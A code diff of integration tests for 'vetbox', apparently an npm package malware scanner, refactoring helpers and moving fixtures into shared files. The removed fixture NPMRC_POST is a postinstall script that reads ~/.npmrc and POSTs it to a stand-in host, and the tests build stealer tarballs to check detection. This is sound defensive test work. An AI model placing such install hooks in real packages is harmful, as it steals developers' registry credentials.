@@ -4,12 +4,12 @@ import { spawn } from 'node:child_process';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
-import { gzipSync } from 'node:zlib';
-import tar from 'tar-stream';
 import { afterAll, afterEach, describe, expect, it } from 'vitest';
 import { Report } from '@vetbox/contracts';
 import { DockerRuntime, LABEL_ANALYSIS } from '@vetbox/sandbox';
 import { REPO_ROOT } from '../helpers/processes.js';
+import { runVetbox, type CliResult } from '../helpers/cli.js';
+import { NPMRC_POST, writeNpmArchive } from '../fixtures/pipeline/imitation.js';
 
 const runtime = new DockerRuntime();
 let work = '';
@@ -24,45 +24,12 @@ afterEach(async () => {
   for (const id of analyses.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
 });
 
-interface CliResult {
-  code: number | null;
-  stdout: string;
-  stderr: string;
-}
+const vetbox = (args: string[], timeoutMs?: number) => runVetbox(args, { timeoutMs });
 
-function vetbox(args: string[], timeoutMs = 280_000): Promise<CliResult> {
-  return new Promise((resolve, reject) => {
-    const child = spawn('npx', ['--no-install', 'vetbox', ...args], { cwd: REPO_ROOT, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] });
-    let stdout = '';
-    let stderr = '';
-    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
-    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
-    const timer = setTimeout(() => {
-      child.kill('SIGINT');
-      reject(new Error(`vetbox ${args.join(' ')} still running after ${timeoutMs} ms\n${stderr}`));
-    }, timeoutMs);
-    child.on('error', reject);
-    child.on('close', (code) => {
-      clearTimeout(timer);
-      resolve({ code, stdout, stderr });
-    });
-  });
-}
-
-/** An npm tarball as `npm pack` lays it out (everything under package/). */
-async function npmTgz(file: string, manifest: Record<string, unknown>, files: Record<string, string>): Promise<string> {
+/** An npm tarball as `npm pack` lays it out, written as `<name>-<version>.tgz` in the work directory. */
+async function npmTgz(manifest: { name: string; version: string; scripts?: Record<string, string> }, files: Record<string, string>): Promise<string> {
   work ||= await mkdtemp(path.join(os.tmpdir(), 'vetbox-cli-analyze-'));
-  const pack = tar.pack();
-  const chunks: Buffer[] = [];
-  pack.on('data', (c: unknown) => chunks.push(c as Buffer));
-  const done = new Promise<void>((resolve, reject) => pack.on('end', resolve).on('error', reject));
-  pack.entry({ name: 'package/package.json', mode: 0o644 }, JSON.stringify(manifest, null, 2));
-  for (const [name, content] of Object.entries(files)) pack.entry({ name: `package/${name}`, mode: 0o644 }, content);
-  pack.finalize();
-  await done;
-  const out = path.join(work, file);
-  await writeFile(out, gzipSync(Buffer.concat(chunks)));
-  return out;
+  return writeNpmArchive(work, { ...manifest, files });
 }
 
 function parseReport(result: CliResult): Report {
@@ -79,18 +46,10 @@ req.on('error', () => {});
 req.end(body);
 `;
 
-const NPMRC_POST = `
-const http = require('http'), fs = require('fs'), os = require('os');
-let data = '';
-try { data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
-const req = http.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => res.resume());
-req.on('error', () => {});
-req.end(data);
-`;
 
 describe('vetbox analyze --local', () => {
   it('an env stealer tarball: exit 2, the report JSON alone on stdout, credential-exfiltration', async () => {
-    const tgz = await npmTgz('cli-env-stealer-1.0.0.tgz', { name: 'cli-env-stealer', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node steal.js' } }, {
+    const tgz = await npmTgz({ name: 'cli-env-stealer', version: '1.0.0', scripts: { postinstall: 'node steal.js' } }, {
       'steal.js': STEALER,
       'index.js': 'module.exports = 1;\n',
     });
@@ -105,7 +64,7 @@ describe('vetbox analyze --local', () => {
   }, 300_000);
 
   it('a tiny harmless package: exit 0, and the text summary', async () => {
-    const tgz = await npmTgz('cli-tiny-1.0.0.tgz', { name: 'cli-tiny', version: '1.0.0', main: 'index.js' }, {
+    const tgz = await npmTgz({ name: 'cli-tiny', version: '1.0.0' }, {
       'index.js': 'module.exports = (a, b) => a + b;\n',
     });
     const result = await vetbox(['analyze', tgz, '--local']);
@@ -131,7 +90,7 @@ describe('vetbox analyze --local', () => {
     expect(bad.stderr).toMatch(/BAD_ARCHIVE: .*junk\.tgz is not a usable package archive/);
   }, 120_000);
   it('Ctrl-C stops a local run: exit 3, and its containers are gone', async () => {
-    const tgz = await npmTgz('cli-slow-1.0.0.tgz', { name: 'cli-slow', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node -e "setTimeout(() => {}, 120000)"' } }, {
+    const tgz = await npmTgz({ name: 'cli-slow', version: '1.0.0', scripts: { postinstall: 'node -e "setTimeout(() => {}, 120000)"' } }, {
       'index.js': 'module.exports = 1;\n',
     });
     // node directly (not npx), so the SIGINT reaches the CLI itself as a terminal's Ctrl-C would.
@@ -161,10 +120,10 @@ describe('vetbox analyze --local', () => {
 
 describe('vetbox diff --local', () => {
   it('1.0.1 adds a postinstall that reads ~/.npmrc and POSTs it: added hosts and files, nothing removed', async () => {
-    const manifest = { name: 'cli-diff-fixture', main: 'index.js' };
+    const manifest = { name: 'cli-diff-fixture' };
     const files = { 'index.js': 'module.exports = () => 42;\n' };
-    const a = await npmTgz('cli-diff-fixture-1.0.0.tgz', { ...manifest, version: '1.0.0' }, files);
-    const b = await npmTgz('cli-diff-fixture-1.0.1.tgz', { ...manifest, version: '1.0.1', scripts: { postinstall: 'node up.js' } }, { ...files, 'up.js': NPMRC_POST });
+    const a = await npmTgz({ ...manifest, version: '1.0.0' }, files);
+    const b = await npmTgz({ ...manifest, version: '1.0.1', scripts: { postinstall: 'node up.js' } }, { ...files, 'up.js': NPMRC_POST });
     const result = await vetbox(['diff', a, b, '--local', '--json'], 560_000);
     expect(result.code, result.stderr).toBe(0);
     for (const id of result.stderr.matchAll(/analysis (local-[0-9a-f-]+)/g)) analyses.push(id[1]);
